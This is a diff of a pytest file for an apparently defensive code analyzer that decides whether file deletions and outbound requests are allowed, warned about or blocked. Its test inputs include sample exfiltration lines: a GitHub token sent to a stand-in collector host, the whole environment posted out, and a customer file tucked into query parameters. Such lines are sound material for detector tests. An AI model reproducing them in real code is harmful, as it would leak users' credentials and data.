@@ -313,15 +313,29 @@ def test_a_temporary_listing_stays_scratch() -> None:
     assert [(op.detail("scope"), op.scratch) for op in ops(text)] == [("bulk", True)]
 
 
-def test_a_bulk_removal_blocks_under_the_built_in_policy() -> None:
+def decisions(text: str) -> list[tuple[str, str]]:
+    """(rule, action) of each finding under the built-in policy."""
     from analyzer.engine import Checker
     from analyzer.model import Context
     from analyzer.policy.load import load_policy
 
-    text = REMOVALS + 'for f in glob.glob("exports/*.csv"):\n    os.remove(f)\n'
-    report = Checker(load_policy(), Context()).check_text(text, "python", "clean.py")
-    assert [(f.operation.rule, f.operation.targets, f.action) for f in report.findings] == \
-        [("py.fs-delete", ("exports/*.csv",), "block")]
+    report = Checker(load_policy(), Context()).check_text(text, "python", "job.py")
+    return [(f.operation.rule, f.action) for f in report.findings]
+
+
+@pytest.mark.parametrize("line, action", [
+    ('os.remove("notes.txt")', "allow"),
+    ('Path("docs/draft.md").unlink()', "allow"),
+    ('Path("reports/q3.xlsx").unlink()', "block"),
+    ('for f in glob.glob("notes/*.txt"):\n    os.remove(f)', "block"),
+    ('[os.remove(p) for p in Path(".").glob("*.txt")]', "block"),
+    ("os.remove(path)", "block"),
+    ('os.remove("/srv/notes.txt")', "block"),
+    ('os.remove("../notes.txt")', "block"),
+], ids=["named-file", "named-Path", "data-file", "glob-loop", "glob-comprehension", "unknown-path", "absolute",
+        "parent"])
+def test_one_named_file_is_routine_and_many_or_unknown_ones_block(line: str, action: str) -> None:
+    assert decisions(REMOVALS + line + "\n") == [("py.fs-delete", action)]
 
 
 # -- data leaving: where it comes from and where in the request it travels -------------------------
@@ -406,15 +420,39 @@ def test_secret_names_come_from_the_secrets_catalogue() -> None:
         [False, False, False, False]
 
 
-@pytest.mark.parametrize("line", [
-    f'requests.get("https://collector.example.net/u", headers={{"Authorization": "token " + {GITHUB}}})',
-    f'requests.post("https://api.github.com/x", json={{"t": {GITHUB}}})',
-    f'requests.get(f"https://api.github.com/user?access_token={{{IN_FSTRING}}}")',
-], ids=["other-host", "body", "query"])
-def test_a_credential_sent_anywhere_but_its_own_services_authentication_blocks(line: str) -> None:
-    from analyzer.engine import Checker
-    from analyzer.model import Context
-    from analyzer.policy.load import load_policy
+@pytest.mark.parametrize("line, payload", [
+    ('requests.post("https://x.example/a", json={"k": 1, "region": os.environ["REGION"]})', "constant"),
+    (f'requests.post("https://api.github.com/x", headers={{"Authorization": "token " + {GITHUB}}}, '
+     'json={"title": "bug"})', "constant"),
+    ('h = {}\nh["X-API-Key"] = os.environ["OPENAI_API_KEY"]\nhttpx.post("https://api.openai.com/v1/x", headers=h, '
+     'json={"q": 1})', "constant"),
+    ('requests.post("https://x.example/a", json={"title": title})', "data"),
+    ('rows = cursor.fetchall()\nrequests.post("https://x.example/a", json={"title": "x"}, params={"r": rows})',
+     "data"),
+    ('requests.post("https://x.example/a", json=dict(os.environ))', "data"),
+    ('import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm["To"] = "x@example.net"\n'
+     'smtplib.SMTP("mail.example.net").send_message(m)', "data"),
+    ('import smtplib\nsmtplib.SMTP("mail.example.net").sendmail("a@x.example", ["b@x.example"], "deployed")',
+     "constant"),
+    ('import boto3\nboto3.client("s3").upload_file("report.csv", "other-bucket", "r.csv")', "data"),
+], ids=["constants-and-configuration", "credential-and-constant-body", "header-mapping-built-up", "unknown-value",
+        "query-result", "whole-environment", "message-object", "constant-mail", "upload"])
+def test_a_send_says_whether_anything_but_constants_and_its_credentials_travels(line: str, payload: str) -> None:
+    found = [op for op in ops(SENDS + line + "\n") if op.category == "exfiltration"]
+    assert [op.detail("payload") for op in found] == [payload]
 
-    report = Checker(load_policy(), Context()).check_text(SENDS + line + "\n", "python", "send.py")
-    assert [(f.operation.rule, f.action) for f in report.findings] == [("py.exfil-request", "block")]
+
+@pytest.mark.parametrize("line, action", [
+    (f'requests.get("https://api.github.com/user", headers={{"Authorization": "token " + {GITHUB}}})', "allow"),
+    (f'requests.get("https://api.github.com/user", auth=HTTPBasicAuth("me", {GITHUB}))', "allow"),
+    ('requests.post("https://hooks.example.net/deploy", json={"text": "deployed"})', "warn"),
+    (f'requests.get("https://collector.example.net/u", headers={{"Authorization": "token " + {GITHUB}}})',
+     "block"),
+    (f'requests.post("https://api.github.com/x", json={{"t": {GITHUB}}})', "block"),
+    (f'requests.get(f"https://api.github.com/user?access_token={{{IN_FSTRING}}}")', "block"),
+    (f'requests.get("https://api.github.com/user", headers={{"Authorization": "token " + {GITHUB}}}, '
+     'params={"q": open("customers.csv").read()})', "block"),
+], ids=["auth-header-to-its-service", "basic-auth-to-its-service", "constant-payload", "auth-to-another-host",
+        "body-to-its-service", "query-to-its-service", "other-data-with-it"])
+def test_a_credential_authenticates_only_in_its_services_authentication(line: str, action: str) -> None:
+    assert decisions(SENDS + line + "\n") == [("py.exfil-request", action)]
